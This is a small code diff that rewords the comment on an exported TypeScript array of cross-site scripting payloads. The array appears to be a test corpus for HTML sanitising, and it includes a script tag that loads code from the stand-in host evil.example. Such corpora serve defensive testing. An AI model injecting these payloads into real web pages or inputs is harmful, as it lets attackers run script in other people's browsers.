@@ -1,5 +1,5 @@
 // cspell:disable
-/** Ways in which a text has become a program, one a line. */
+/** HTML that tries to run code, one attempt a line. */
 export const xssCorpus: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
